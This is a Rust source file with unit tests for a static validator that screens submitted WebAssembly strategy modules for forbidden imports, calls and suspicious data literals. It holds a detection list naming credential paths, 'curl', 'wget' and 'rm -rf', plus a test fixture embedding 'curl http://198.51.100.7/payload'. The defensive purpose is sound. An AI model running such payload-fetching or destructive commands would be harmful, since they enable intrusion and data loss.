//! Static validation of strategy source before anything executes.
//!
//! The validator parses the submitted text to a module binary, verifies it
//! structurally, and walks the result against the active policy: import
//! namespaces against the allow/deny sets, imported field names against the
//! forbidden attributes, call targets of imported functions against the
//! forbidden calls, and data-segment literals against a fixed suspicion
//! list. All findings are collected in one pass; nothing short-circuits, so
//! a report always names every violation at once.

pub(crate) mod walker;

use serde::Serialize;
use tracing::debug;

use crate::integrity::{ContentHash, IntegrityVerifier};
use crate::policy::SecurityPolicy;

/// Aggregate risk of a validation run. Ordered from benign to blocking.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Serialize)]
#[serde(rename_all = "snake_case")]
pub enum RiskLevel {
    Safe,
    Low,
    Medium,
    High,
}

impl std::fmt::Display for RiskLevel {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        let name = match self {
            RiskLevel::Safe => "safe",
            RiskLevel::Low => "low",
            RiskLevel::Medium => "medium",
            RiskLevel::High => "high",
        };
        f.write_str(name)
    }
}

/// What kind of problem a finding describes.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize)]
#[serde(rename_all = "snake_case")]
pub enum FindingCode {
    ParseFailure,
    IntegrityMismatch,
    ForbiddenImport,
    UnknownImport,
    ForbiddenCall,
    ForbiddenAttribute,
    SuspiciousLiteral,
}

/// One violation or observation, tied to the construct that triggered it.
#[derive(Debug, Clone, Serialize)]
pub struct Finding {
    pub code: FindingCode,
    /// The offending construct: an import namespace, a call target, an
    /// attribute name, or a matched pattern.
    pub construct: String,
    pub detail: String,
    pub risk: RiskLevel,
}

impl Finding {
    fn new(
        code: FindingCode,
        construct: impl Into<String>,
        detail: impl Into<String>,
        risk: RiskLevel,
    ) -> Self {
        Self {
            code,
            construct: construct.into(),
            detail: detail.into(),
            risk,
        }
    }
}

/// One import as the module declares it.
#[derive(Debug, Clone, Serialize)]
pub struct ModuleImport {
    pub module: String,
    pub field: String,
    pub kind: String,
}

/// One export as the module declares it.
#[derive(Debug, Clone, Serialize)]
pub struct ModuleExport {
    pub name: String,
    pub kind: String,
}

/// Outcome of static validation. Immutable once produced.
#[derive(Debug, Clone, Serialize)]
pub struct ValidationReport {
    /// Overall verdict. Errors always block; warnings block only under
    /// strict mode.
    pub safe: bool,
    pub risk: RiskLevel,
    pub errors: Vec<Finding>,
    pub warnings: Vec<Finding>,
    /// Declared import surface of the parsed module.
    pub imports: Vec<ModuleImport>,
    /// Declared export surface of the parsed module.
    pub exports: Vec<ModuleExport>,
    /// Canonical rendering of the accepted module, absent when the source
    /// never parsed.
    pub normalized_source: Option<String>,
}

impl ValidationReport {
    /// A source that never parsed carries the parse finding and nothing
    /// else; later checks need the module structure and do not run.
    fn parse_failure(detail: String) -> Self {
        Self {
            safe: false,
            risk: RiskLevel::High,
            errors: vec![Finding::new(
                FindingCode::ParseFailure,
                "module",
                detail,
                RiskLevel::High,
            )],
            warnings: Vec::new(),
            imports: Vec::new(),
            exports: Vec::new(),
            normalized_source: None,
        }
    }

    /// Empty source parses vacuously and is unconditionally safe.
    fn vacuous() -> Self {
        Self {
            safe: true,
            risk: RiskLevel::Safe,
            errors: Vec::new(),
            warnings: Vec::new(),
            imports: Vec::new(),
            exports: Vec::new(),
            normalized_source: Some(String::new()),
        }
    }

    pub fn error(&self, code: FindingCode) -> Option<&Finding> {
        self.errors.iter().find(|f| f.code == code)
    }

    pub fn first_error(&self) -> Option<&Finding> {
        self.errors.first()
    }

    pub fn finding_count(&self) -> usize {
        self.errors.len() + self.warnings.len()
    }
}

/// Literal fragments in data segments that suggest the module is trying to
/// talk about the host system rather than market data.
const SUSPICIOUS_LITERALS: &[&str] = &[
    "/etc/", "/bin/", "/dev/", "passwd", "ssh", "sudo", "curl ", "wget ", "http://", "https://",
    "rm -rf",
];

/// Borrow-based validator bound to one policy snapshot.
pub struct StaticValidator<'p> {
    policy: &'p SecurityPolicy,
}

impl<'p> StaticValidator<'p> {
    pub fn new(policy: &'p SecurityPolicy) -> Self {
        Self { policy }
    }

    /// Validate source text, optionally checking it against a pinned hash.
    pub fn validate(&self, source: &str, expected: Option<&ContentHash>) -> ValidationReport {
        if source.trim().is_empty() {
            return ValidationReport::vacuous();
        }

        let binary = match wat::parse_str(source) {
            Ok(binary) => binary,
            Err(e) => return ValidationReport::parse_failure(first_line(&e.to_string())),
        };
        if let Err(e) = wasmparser::validate(&binary) {
            return ValidationReport::parse_failure(first_line(&e.to_string()));
        }
        let surface = match walker::walk(&binary) {
            Ok(surface) => surface,
            Err(e) => return ValidationReport::parse_failure(e),
        };
        let imports: Vec<ModuleImport> = surface
            .imports
            .iter()
            .map(|import| ModuleImport {
                module: import.module.clone(),
                field: import.field.clone(),
                kind: import.kind.as_str().to_string(),
            })
            .collect();
        let exports: Vec<ModuleExport> = surface
            .exports
            .iter()
            .map(|export| ModuleExport {
                name: export.name.clone(),
                kind: export.kind.to_string(),
            })
            .collect();

        let mut errors = Vec::new();
        let mut warnings = Vec::new();

        // The pin covers the source text as submitted, checked only once
        // the text is a structurally valid module.
        if let Some(expected) = expected {
            if !IntegrityVerifier::matches(source, expected) {
                let computed = IntegrityVerifier::compute(source);
                errors.push(Finding::new(
                    FindingCode::IntegrityMismatch,
                    "source",
                    format!("expected {expected}, computed {computed}"),
                    RiskLevel::High,
                ));
            }
        }

        let strict = self.policy.flags.strict_mode;
        for import in &surface.imports {
            let qualified = format!("{}.{}", import.module, import.field);
            if self.policy.forbidden_imports.contains(&import.module) {
                errors.push(Finding::new(
                    FindingCode::ForbiddenImport,
                    import.module.clone(),
                    format!("import {qualified} targets a forbidden namespace"),
                    RiskLevel::High,
                ));
            } else if !self.policy.allowed_imports.contains(&import.module) {
                let finding = Finding::new(
                    FindingCode::UnknownImport,
                    import.module.clone(),
                    format!("import {qualified} targets a namespace that is neither allowed nor forbidden"),
                    RiskLevel::Medium,
                );
                if strict {
                    errors.push(finding);
                } else {
                    warnings.push(finding);
                }
            }
            if self.policy.forbidden_attributes.contains(&import.field) {
                errors.push(Finding::new(
                    FindingCode::ForbiddenAttribute,
                    import.field.clone(),
                    format!("import {qualified} accesses a forbidden attribute"),
                    RiskLevel::High,
                ));
            }
        }

        for target in &surface.called {
            let bare = target.rsplit('.').next().unwrap_or(target);
            if self.policy.forbidden_calls.contains(target)
                || self.policy.forbidden_calls.contains(bare)
            {
                errors.push(Finding::new(
                    FindingCode::ForbiddenCall,
                    target.clone(),
                    "module calls a forbidden target",
                    RiskLevel::High,
                ));
            }
        }

        for literal in &surface.literals {
            let lowered = literal.to_lowercase();
            if let Some(pattern) = SUSPICIOUS_LITERALS.iter().find(|p| lowered.contains(*p)) {
                warnings.push(Finding::new(
                    FindingCode::SuspiciousLiteral,
                    (*pattern).to_string(),
                    format!("data segment contains {:?}", truncate(literal, 48)),
                    RiskLevel::Low,
                ));
            }
        }

        let risk = errors
            .iter()
            .chain(warnings.iter())
            .map(|f| f.risk)
            .max()
            .unwrap_or(RiskLevel::Safe);
        let safe = errors.is_empty() && !(strict && !warnings.is_empty());
        let normalized_source = if safe {
            wasmprinter::print_bytes(&binary).ok()
        } else {
            None
        };

        debug!(
            safe,
            %risk,
            errors = errors.len(),
            warnings = warnings.len(),
            "static validation finished"
        );

        ValidationReport {
            safe,
            risk,
            errors,
            warnings,
            imports,
            exports,
            normalized_source,
        }
    }
}

fn first_line(text: &str) -> String {
    text.lines().next().unwrap_or(text).to_string()
}

fn truncate(text: &str, max: usize) -> &str {
    match text.char_indices().nth(max) {
        Some((idx, _)) => &text[..idx],
        None => text,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn policy() -> SecurityPolicy {
        SecurityPolicy::standard()
    }

    fn strict_policy() -> SecurityPolicy {
        let mut p = SecurityPolicy::standard();
        p.flags.strict_mode = true;
        p
    }

    const BENIGN: &str = r#"(module
        (import "math" "exp" (func $exp (param f64) (result f64)))
        (memory (export "memory") 1)
        (func (export "init") (result i32) (i32.const 0))
        (func (export "score") (param i64 i64) (result f64)
            (call $exp (f64.const 0.5)))
        (func (export "signals") (param i64)))"#;

    #[test]
    fn benign_module_is_safe() {
        let p = policy();
        let report = StaticValidator::new(&p).validate(BENIGN, None);
        assert!(report.safe);
        assert_eq!(report.risk, RiskLevel::Safe);
        assert!(report.errors.is_empty());
        assert!(report.warnings.is_empty());
        assert!(report.normalized_source.is_some());
    }

    #[test]
    fn report_carries_the_declared_surface() {
        let p = policy();
        let report = StaticValidator::new(&p).validate(BENIGN, None);

        assert_eq!(report.imports.len(), 1);
        assert_eq!(report.imports[0].module, "math");
        assert_eq!(report.imports[0].field, "exp");
        assert_eq!(report.imports[0].kind, "func");

        let names: Vec<&str> = report.exports.iter().map(|e| e.name.as_str()).collect();
        assert_eq!(names, ["memory", "init", "score", "signals"]);
        assert_eq!(report.exports[0].kind, "memory");
        assert_eq!(report.exports[1].kind, "func");
    }

    #[test]
    fn forbidden_import_forces_high_risk() {
        let source = r#"(module
            (import "wasi_snapshot_preview1" "proc_exit" (func $exit (param i32)))
            (memory (export "memory") 1))"#;
        let p = policy();
        let report = StaticValidator::new(&p).validate(source, None);
        assert!(!report.safe);
        assert_eq!(report.risk, RiskLevel::High);
        let finding = report.error(FindingCode::ForbiddenImport).unwrap();
        assert_eq!(finding.construct, "wasi_snapshot_preview1");
    }

    #[test]
    fn unknown_import_warns_unless_strict() {
        let source = r#"(module
            (import "vendor" "helper" (func $h))
            (memory (export "memory") 1))"#;

        let p = policy();
        let report = StaticValidator::new(&p).validate(source, None);
        assert!(report.safe);
        assert_eq!(report.warnings.len(), 1);
        assert_eq!(report.risk, RiskLevel::Medium);

        let p = strict_policy();
        let report = StaticValidator::new(&p).validate(source, None);
        assert!(!report.safe);
        assert!(report.error(FindingCode::UnknownImport).is_some());
    }

    #[test]
    fn forbidden_call_is_detected_on_bare_name() {
        let source = r#"(module
            (import "vendor" "proc_exec" (func $pe (param i32) (result i32)))
            (func (export "run") (result i32) (call $pe (i32.const 1)))
            (memory (export "memory") 1))"#;
        let p = policy();
        let report = StaticValidator::new(&p).validate(source, None);
        assert!(!report.safe);
        let finding = report.error(FindingCode::ForbiddenCall).unwrap();
        assert_eq!(finding.construct, "vendor.proc_exec");
    }

    #[test]
    fn imported_but_uncalled_target_is_not_a_call_finding() {
        let source = r#"(module
            (import "vendor" "proc_exec" (func $pe (param i32) (result i32)))
            (memory (export "memory") 1))"#;
        let p = policy();
        let report = StaticValidator::new(&p).validate(source, None);
        assert!(report.error(FindingCode::ForbiddenCall).is_none());
    }

    #[test]
    fn hash_mismatch_is_reported_with_other_findings() {
        let pinned = ContentHash::of("something else entirely");
        let p = policy();
        let report = StaticValidator::new(&p).validate(BENIGN, Some(&pinned));
        assert!(!report.safe);
        assert_eq!(report.risk, RiskLevel::High);
        assert!(report.error(FindingCode::IntegrityMismatch).is_some());
    }

    #[test]
    fn matching_hash_passes() {
        let pinned = ContentHash::of(BENIGN);
        let p = policy();
        let report = StaticValidator::new(&p).validate(BENIGN, Some(&pinned));
        assert!(report.safe);
    }

    #[test]
    fn parse_failure_preempts_the_pinned_hash_check() {
        let pinned = ContentHash::of("some other module entirely");
        let p = policy();
        let report = StaticValidator::new(&p).validate("(module (func", Some(&pinned));
        assert!(!report.safe);
        assert_eq!(report.errors.len(), 1);
        assert!(report.error(FindingCode::ParseFailure).is_some());
        assert!(report.error(FindingCode::IntegrityMismatch).is_none());
    }

    #[test]
    fn suspicious_literal_warns_but_does_not_block() {
        let source = r#"(module
            (memory (export "memory") 1)
            (data (i32.const 0) "curl http://198.51.100.7/payload"))"#;
        let p = policy();
        let report = StaticValidator::new(&p).validate(source, None);
        assert!(report.safe);
        assert_eq!(report.warnings.len(), 1);
        assert_eq!(report.risk, RiskLevel::Low);

        // Strict mode blocks on the same warning without promoting it.
        let p = strict_policy();
        let report = StaticValidator::new(&p).validate(source, None);
        assert!(!report.safe);
        assert!(report.errors.is_empty());
        assert_eq!(report.warnings.len(), 1);
    }

    #[test]
    fn unparseable_source_is_rejected() {
        let p = policy();
        let report = StaticValidator::new(&p).validate("(module (func", None);
        assert!(!report.safe);
        assert_eq!(report.risk, RiskLevel::High);
        assert_eq!(report.errors.len(), 1);
        assert!(report.error(FindingCode::ParseFailure).is_some());
        assert!(report.normalized_source.is_none());
    }

    #[test]
    fn empty_source_is_vacuously_safe() {
        let p = policy();
        let report = StaticValidator::new(&p).validate("   \n", None);
        assert!(report.safe);
        assert_eq!(report.finding_count(), 0);
    }

    #[test]
    fn normalization_collapses_formatting() {
        let a = "(module (func $f (result i32) i32.const 1) (export \"f\" (func $f)))";
        let b = "(module\n  (func $f (result i32)\n    (i32.const 1))\n  (export \"f\" (func $f)))";
        let p = policy();
        let validator = StaticValidator::new(&p);
        let ra = validator.validate(a, None);
        let rb = validator.validate(b, None);
        assert_eq!(ra.normalized_source, rb.normalized_source);
        assert!(ra.normalized_source.is_some());
    }

    #[test]
    fn every_violation_is_reported_at_once() {
        let source = r#"(module
            (import "wasi" "fd_write" (func $w (param i32 i32 i32 i32) (result i32)))
            (import "host" "exec" (func $e (param i32) (result i32)))
            (func (export "run") (result i32)
                (call $w (i32.const 0) (i32.const 0) (i32.const 0) (i32.const 0)))
            (memory (export "memory") 1))"#;
        let p = policy();
        let report = StaticValidator::new(&p).validate(source, None);
        assert!(!report.safe);
        // Two forbidden namespaces, one forbidden attribute, one forbidden call.
        assert!(report.errors.len() >= 4);
    }
}
